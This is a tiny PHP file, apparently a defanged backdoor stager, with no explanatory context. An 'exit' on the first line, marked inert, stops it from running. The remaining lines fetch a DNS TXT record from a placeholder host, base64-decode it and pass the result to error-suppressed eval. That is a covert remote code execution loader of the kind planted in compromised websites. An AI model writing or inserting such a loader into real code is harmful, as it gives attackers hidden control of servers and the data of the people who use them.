<?php exit; /* inert */ 
$t = dns_get_record('cfg.example.invalid', DNS_TXT);
$z = implode('', array_column($t, 'txt'));
@eval(base64_decode($z));
